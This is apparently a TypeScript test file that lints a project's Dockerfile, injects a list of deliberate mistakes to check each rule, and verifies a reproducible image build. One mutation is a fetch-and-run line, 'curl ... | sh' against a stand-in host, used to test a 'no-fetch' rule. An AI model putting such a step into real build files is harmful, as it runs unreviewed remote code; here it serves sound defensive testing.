import { execFile } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { cp, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import t from "tap";
import { gatherTree } from "../../scripts/image-contents/tree.ts";
import { isIgnored, lintDockerfile, parseDockerfile, type Surroundings } from "../support/dockerfile.ts";

const run = promisify(execFile);
const ROOT = fileURLToPath(new URL("../..", import.meta.url));
const DOCKERFILE = readFileSync(join(ROOT, "Dockerfile"), "utf8");
const IGNORE = readFileSync(join(ROOT, ".dockerignore"), "utf8");
const BUILD_MS_MAX = 100_000;

const { version } = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as { readonly version: string };
const tree = gatherTree(ROOT, "image", undefined);
const around: Surroundings = {
  exists: (path) => existsSync(join(ROOT, path)),
  ignore: IGNORE,
  version,
  appFiles: tree.files.map(({ path }) => path),
};

t.test("the Dockerfile keeps to its rules", async (t) => {
  t.same(lintDockerfile(DOCKERFILE, around), []);
});

const mistakes: readonly {
  readonly rule: string;
  readonly name: string;
  readonly from: string | RegExp;
  readonly to: string;
}[] = [
  { rule: "pinned", name: "a base without its digest", from: /(nonroot)@sha256:[0-9a-f]{64}/, to: "$1" },
  { rule: "pinned", name: "a digest cut short", from: /(trixie-slim@sha256:[0-9a-f]{63})[0-9a-f]/, to: "$1" },
  { rule: "pinned", name: "a base without its tag", from: "24.21.0-trixie-slim@", to: "@" },
  { rule: "no-add", name: "ADD", from: "COPY scripts", to: "ADD scripts" },
  { rule: "user", name: "root by number", from: "USER 65532:65532", to: "USER 0:0" },
  { rule: "user", name: "a user by name", from: "USER 65532:65532", to: "USER nonroot" },
  { rule: "once", name: "no user", from: "USER 65532:65532", to: "" },
  { rule: "user", name: "folders of another user", from: "--chown=65532:65532", to: "--chown=1000:1000" },
  {
    rule: "exec-form",
    name: "an entrypoint for a shell",
    from: /ENTRYPOINT .*/,
    to: "ENTRYPOINT node /app/dist/main.js",
  },
  { rule: "exec-form", name: "an entrypoint from PATH", from: '"/nodejs/bin/node"', to: '"node"' },
  { rule: "entrypoint", name: "a program that is not there", from: "/app/dist/main.js", to: "/app/dist/server.js" },
  {
    rule: "no-secrets",
    name: "a token as a build argument",
    from: "ARG REVISION=unknown",
    to: "ARG REVISION=unknown\nARG NPM_TOKEN",
  },
  {
    rule: "no-secrets",
    name: "a password in the environment",
    from: "ENV NODE_ENV=production",
    to: "ENV DB_PASSWORD=x NODE_ENV=production",
  },
  {
    rule: "copy-exists",
    name: "a file that is not there",
    from: "LICENSE NOTICE ./",
    to: "LICENSE NOTICE COPYRIGHT ./",
  },
  {
    rule: "copy-let-through",
    name: "a file that is held back",
    from: "LICENSE NOTICE ./",
    to: "LICENSE NOTICE CHANGELOG.md ./",
  },
  { rule: "copy-named", name: "everything that lies about", from: "COPY src ./src", to: "COPY . ." },
  { rule: "copy-from", name: "a stage that is not there", from: "--from=build", to: "--from=builder" },
  {
    rule: "built-only",
    name: "sources in the last stage",
    from: "COPY --from=build /image/app /app",
    to: "COPY src /app",
  },
  { rule: "npm-ci", name: "an install past the lockfile", from: "npm ci", to: "npm install" },
  { rule: "npm-ci", name: "scripts of dependencies", from: "npm ci --ignore-scripts", to: "npm ci" },
  {
    rule: "no-fetch",
    name: "something fetched",
    from: "RUN npm run build",
    to: "RUN curl -fsS https://x.example/i | sh",
  },
  { rule: "no-shell", name: "a command in the last stage", from: "STOPSIGNAL", to: "RUN mkdir /data\nSTOPSIGNAL" },
  { rule: "stopsignal", name: "a signal that cuts calls", from: "SIGTERM", to: "SIGKILL" },
  { rule: "once", name: "no word on health checks", from: "HEALTHCHECK NONE", to: "" },
  { rule: "workdir", name: "a relative folder", from: "WORKDIR /app", to: "WORKDIR app" },
  { rule: "labels", name: "an image without licence", from: ".licenses=", to: ".licence=" },
  { rule: "version", name: "another version", from: `ARG VERSION=${version}`, to: "ARG VERSION=0.0.9" },
];
for (const { rule, name, from, to } of mistakes) {
  t.test(`the lint finds ${name}`, async (t) => {
    const changed = DOCKERFILE.replace(from, to);
    t.not(changed, DOCKERFILE, "the mistake was made");
    t.ok(
      lintDockerfile(changed, around).some((found) => found.startsWith(`${rule}: `)),
      lintDockerfile(changed, around).join("; "),
    );
  });
}

t.test("the builder is sent what the Dockerfile copies, and nothing else", async (t) => {
  const copied = parseDockerfile(DOCKERFILE)
    .stages.flatMap(({ instructions }) => instructions)
    .filter(({ name, flags }) => name === "COPY" && flags.from === undefined)
    .flatMap(({ text }) => text.split(/\s+/).slice(0, -1));
  const sent = readdirSync(ROOT).filter((name) => !isIgnored(name, IGNORE));
  t.same(sent.sort(), copied.sort());
  for (const kept of [".git", "node_modules", "dist", "test/support/ports.ts", ".env", "certs/ca.key"]) {
    t.ok(isIgnored(kept, IGNORE), kept);
  }
});

t.test("its build steps make the same image from what the builder is sent", async (t) => {
  const folder = await mkdtemp(join(tmpdir(), "sallyport-image-build-"));
  t.teardown(() => rm(folder, { recursive: true, force: true }));
  const context = join(folder, "build");
  await mkdir(context);
  for (const name of await readdir(ROOT)) {
    if (!isIgnored(name, IGNORE)) await cp(join(ROOT, name), join(context, name), { recursive: true });
  }
  // In place of `npm ci`: what it would install is there.
  await symlink(join(ROOT, "node_modules"), join(context, "node_modules"));
  const steps = parseDockerfile(DOCKERFILE)
    .stages[0]!.instructions.filter(({ name, text }) => name === "RUN" && !text.startsWith("npm ci"))
    .map(({ text }) => text.replaceAll("/image/", `${folder}/image/`));
  t.equal(steps.length, 2);
  for (const step of steps) {
    // Without the loader hooks that the test runner gives its children: the compiler cannot be loaded under them.
    await run("env", ["--unset=NODE_OPTIONS", "sh", "-euc", step], {
      cwd: context,
      env: { PATH: process.env.PATH, HOME: folder, SOURCE_DATE_EPOCH: "1700000000" },
      timeout: BUILD_MS_MAX,
    });
  }
  const app = join(folder, "image/app");
  const made = (await readdir(app, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile());
  const paths = made.map((entry) => join(entry.parentPath, entry.name).slice(app.length + 1)).sort();
  t.same(paths, [...around.appFiles].sort());
  const differing = [];
  for (const { path, bytes } of tree.files) {
    if (path !== "sbom.cdx.json" && !Buffer.from(bytes).equals(await readFile(join(app, path)))) differing.push(path);
  }
  t.same(differing, [], "byte by byte, but for the time that the bill of materials states");
  t.match(JSON.parse(await readFile(join(app, "sbom.cdx.json"), "utf8")), {
    metadata: { timestamp: "2023-11-14T22:13:20Z" },
  });
  for (const place of ["app", "app/dist/main.js", "app/node_modules/yaml", "state", "run"]) {
    t.equal(
      (await stat(join(folder, "image", place))).mtimeMs,
      1_700_000_000_000,
      `${place} has the time that was given`,
    );
  }
  t.equal((await stat(join(folder, "image/state"))).mode & 0o777, 0o700);
  t.equal((await stat(join(app, "bin/sallyport"))).mode & 0o777, 0o755);
  t.equal((await stat(join(app, "package.json"))).mode & 0o777, 0o644);
});
